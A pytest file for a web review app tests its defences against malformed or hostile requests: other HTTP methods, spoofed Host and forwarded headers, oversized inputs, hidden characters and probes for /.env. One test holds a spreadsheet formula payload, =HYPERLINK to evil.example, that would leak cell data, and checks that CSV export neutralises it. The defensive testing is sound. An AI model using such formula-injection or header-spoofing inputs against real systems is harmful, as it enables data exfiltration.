"""Requests that no browser sends: other methods, hosts, bytes, sizes, addresses."""

import csv
import http.client
import io
import json
from contextlib import closing
from dataclasses import replace
from http import HTTPStatus

import pytest

from hntes.web.api.openapi import openapi
from hntes.web.app import made
from hntes.web.headers import ALWAYS, POLICY
from tests.support.api_program import program
from tests.support.followed_page import running_page
from tests.support.installation import Installation
from tests.support.page_addresses import CHANGE, OPEN, POSTS, private_addresses
from tests.support.random_requests import FORM, Answer, Call, ask
from tests.support.review_page import ORIGIN, Browser, browser, site
from tests.support.waiting import wait_until

HOST = (b"host", b"127.0.0.1:8440")
METHODS = ("PUT", "TRACE", "OPTIONS", "get")


@pytest.mark.parametrize("method", METHODS)
def test_other_methods_do_nothing_and_say_nothing(reader: Browser, method: str) -> None:
    cookie = (b"cookie", f"hntes={reader.client.cookies['hntes']}".encode())
    # as a form asks some servers for another method than its own
    meant = (b"x-http-method-override", b"POST")
    app = made(reader.server)
    for address in (*private_addresses(), *OPEN.values(), *(each for of in POSTS.values() for each in of)):
        call = Call(method, address.partition("?")[0].encode(), b"", (HOST, cookie, meant), b"_method=POST")
        answer = ask(app, call)
        assert answer.status == 405, (method, address)
        assert answer.header(b"allow") in (b"GET, HEAD", b"POST", b"GET, HEAD, POST"), (method, address)
        assert answer.header(b"content-security-policy") == POLICY.encode()
        assert answer.header(b"access-control-allow-origin") == b""
        assert len(answer.body) < 2000


def test_head_is_answered_as_get_without_content(reader: Browser) -> None:
    cookie = (b"cookie", f"hntes={reader.client.cookies['hntes']}".encode())
    token = (b"authorization", f"Bearer {program(reader.server, 'read').token}".encode())
    app = made(reader.server)

    def asked(method: str, address: str) -> Answer:
        path, _, query = address.partition("?")
        return ask(app, Call(method, path.encode(), query.encode(), (HOST, cookie, token), b""))

    for address in (*private_addresses(), *OPEN.values(), "/api/status", "/api/routers/r1", "/api/changes/r9/x"):
        whole, head = asked("GET", address), asked("HEAD", address)
        told = [(each.status, each.header(b"content-type"), each.header(b"content-length")) for each in (whole, head)]
        assert told[0] == told[1], address
        assert head.body == b""
    assert asked("HEAD", "/logout").status == 405


def test_a_head_of_events_ends(read_only: Installation) -> None:
    """Nobody reads what would follow, and the connection goes on to the next request."""
    with (
        running_page(read_only) as page,
        closing(http.client.HTTPConnection("127.0.0.1", page.port, timeout=30)) as one,
    ):
        for method, address in (
            ("HEAD", "/deliveries/events"),
            ("HEAD", "/review.css"),
            ("HEAD", "/log"),
            ("GET", "/health"),
        ):
            one.request(method, address, headers={"Cookie": f"hntes={page.session()}"})
            answer = one.getresponse()
            assert (answer.status, answer.read()) == (200, b"up\n" if method == "GET" else b"")
        wait_until(lambda: page.site.live.streams == 0, "the stream ends")


@pytest.mark.parametrize(
    ("call", "status"),
    [
        (Call("GET", b"/api/status", b"", ((b"host", b"evil.example"),), b""), 421),
        (Call("GET", b"/api/status", b"", (HOST, (b"x", b"a" * 40_000)), b""), 431),
        (Call("GET", b"/api/audit", b"who=\xc3\xa4", (HOST,), b""), 400),
        (Call("POST", b"/api/pins", b"", (HOST, (b"content-length", b"1"), (b"transfer-encoding", b"x")), b""), 400),
    ],
    ids=["host", "long", "query", "lengths"],
)
def test_what_is_refused_before_the_api_is_a_problem_too(read_only: Installation, call: Call, status: int) -> None:
    app = made(site(read_only.settings))
    answer = ask(app, call)
    assert (answer.status, answer.header(b"content-type")) == (status, b"application/problem+json")
    told = json.loads(answer.body)
    assert (told["status"], told["title"]) == (status, HTTPStatus(status).phrase)
    path = call.target.decode()
    assert str(status) in openapi()["paths"][path][call.method.lower()]["responses"]
    # people get the sentence
    page = ask(app, replace(call, target=b"/log"))
    assert (page.status, page.header(b"content-type")) == (status, b"text/plain; charset=utf-8")
    assert page.body.decode() == f"{told['detail']}\n"


@pytest.mark.parametrize(
    "host",
    [b"", b"evil.example", b"127.0.0.1", b"127.0.0.1:8441", b"127.0.0.1:8440.evil.example", b"anna@127.0.0.1:8440",
     b"127.0.0.1:8440, evil.example", b"evil.example, 127.0.0.1:8440", b"127.1:8440", b"\xff", b"127.0.0.1:8440/"],
)  # fmt: skip
def test_a_request_that_was_meant_for_another_host_gets_nothing(read_only: Installation, host: bytes) -> None:
    forwarded = (b"x-forwarded-host", b"127.0.0.1:8440"), (b"forwarded", b"host=127.0.0.1:8440")
    answer = ask(made(site(read_only.settings)), Call("GET", b"/login", b"", ((b"host", host), *forwarded), b""))
    assert answer.status == 421
    assert b"csrf" not in answer.body
    assert answer.header(b"set-cookie") == b""


def test_a_forwarded_host_or_scheme_changes_no_address_and_no_cookie(read_only: Installation) -> None:
    told = {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https", "Forwarded": "host=evil.example"}
    someone = browser(read_only.settings, **told)
    assert someone.get("/").headers["location"] == "/login?next=/"
    answer = someone.log_in("anna")
    assert answer.headers["location"] == "/"
    assert "evil.example" not in str(answer.headers) + someone.get("/pair").text


@pytest.mark.parametrize(
    "text", ["r1\x00", "198.18.10.5\x00", "\ud800", "\u202e", "x" * 20_000, "9" * 5000, "\u0661\u0662"]
)
def test_odd_characters_in_any_field_are_no_defect(reader: Browser, text: str) -> None:
    odd = text.encode("utf-8", "surrogatepass")
    for address, names in (
        ("/pair", ("q", "router")), ("/log", ("who", "since", "before", "kind", "router")), ("/login", ("next",)),
        ("/exclude", ("what", "router", "side", "until", "from", "reason")), ("/pin", ("what",)), (CHANGE, ("pair",)),
    ):  # fmt: skip
        usual = {"router": "r1", "what": "198.18.10.0/24", "reason": "x", "until": "2099-12-31", "q": "198.18.10.5"}
        for name in names:
            fields = {key: value.encode() for key, value in usual.items()} | {name: odd}
            answer = reader.client.get(ORIGIN + address, params=fields, headers=reader.headers)
            assert answer.status_code < 500, (address, name)
            assert text not in answer.text or text.isprintable(), (address, name)


@pytest.mark.parametrize("note", ["a\x00b", "a\u2028b", "a\u200db", "\U000e0041", "x\u0085y"])
def test_a_note_that_hides_something_is_refused_in_every_form(reader: Browser, note: str) -> None:
    (csrf,) = {reader.token("/pair")}
    for address in (each for of in POSTS.values() for each in of if each not in ("/login", "/logout")):
        fields = {
            "csrf": csrf, "hash": "0" * 64, "confirm": "r1", "note": note, "reason": note, "router": "r1",
            "new_pairs": "8", "until": "2099-12-31", "what": "198.18.10.0/24>203.0.113.0/24",
            "change": f"r1 2026-11-20 {'0' * 64}",
        }  # fmt: skip
        answer = reader.post(address, fields)
        assert answer.status_code == 400, (address, answer.text)
        assert note not in answer.text


@pytest.mark.parametrize(
    "address", ["/openapi.json", "/docs", "/redoc", "/api", "/metrics", "/debug", "/.env", "/web-accounts.json"]
)
def test_nothing_is_told_of_the_program_itself(reader: Browser, address: str) -> None:
    for asked in (reader.get(address), reader.get(address, Accept="application/json")):
        assert asked.status_code == 404
        assert asked.headers["content-type"].startswith("text/html")


def test_whatever_is_answered_is_kept_nowhere(read_only: Installation, reader: Browser) -> None:
    token = reader.token("/pair")
    answers = [
        browser(read_only.settings, server=reader.server).get("/"),  # to the login
        reader.post("/approve", {"csrf": token}),  # 400
        reader.post("/approve", {"hash": "0"}),  # 403
        reader.get("/nothing"),
        reader.get("/", Host="evil.example"),  # 421
        reader.client.put(f"{ORIGIN}/"),  # 405
        reader.post("/approve", {"csrf": token, "note": "x" * 300_000}),  # 413
    ]
    assert [each.status_code for each in answers] == [303, 400, 403, 404, 421, 405, 413]
    for answer in answers:
        for name, value in ALWAYS.items():
            assert answer.headers[name] == value, answer.status_code
        assert answer.headers["content-security-policy"] == POLICY


def test_a_body_is_read_no_further_than_a_form_can_be(reader: Browser) -> None:
    cookie = (b"cookie", f"hntes={reader.client.cookies['hntes']}".encode())
    sent = (HOST, cookie, (b"origin", ORIGIN.encode()), (b"content-type", FORM.encode()), (b"content-length", b"5"))
    answer = ask(made(reader.server), Call("POST", b"/approve", b"", sent, b"csrf=" + b"x" * 50_000_000))
    assert answer.status == 413


def test_a_note_from_the_log_is_no_formula_in_a_spreadsheet(site_copy: Installation) -> None:
    anna = browser(site_copy.settings)
    anna.log_in("anna")
    note = '=HYPERLINK("http://evil.example?"&A1,"ok"),"x'
    assert anna.send(CHANGE, f"{CHANGE}/reject", note=note).status_code == 303
    answer = anna.get("/log.csv?kind=decide")
    assert answer.headers["content-disposition"] == 'attachment; filename="hntes-log.csv"'
    _, row = csv.reader(io.StringIO(answer.text))
    assert row[-1] == f"'{note}"
